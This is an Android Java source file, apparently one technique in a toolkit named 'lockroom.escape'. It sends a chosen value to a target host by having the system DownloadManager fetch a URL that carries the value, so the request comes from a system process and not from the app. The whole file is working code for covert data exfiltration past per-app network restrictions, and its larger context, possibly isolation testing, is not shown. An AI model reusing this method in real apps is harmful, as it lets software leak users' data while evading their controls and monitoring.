package com.lockroom.escape.tricks;

import android.app.DownloadManager;
import android.content.Context;
import android.net.Uri;
import com.lockroom.escape.Attempts;
import com.lockroom.escape.Target;
import com.lockroom.escape.Trick;

/** Has the system fetch an address that holds the value: its process sends it, not the app's. */
public final class Download implements Trick {
    private final Context context;

    public Download(Context context) {
        this.context = context;
    }

    @Override
    public void go(Attempts attempts, Target target, String value) {
        attempts.one("enqueue", () -> {
            Uri address = Uri.parse("http://" + target.host + ":" + target.tcp + "/?id=" + value);
            DownloadManager manager = (DownloadManager) context.getSystemService(Context.DOWNLOAD_SERVICE);
            return "number " + manager.enqueue(new DownloadManager.Request(address));
        });
    }
}
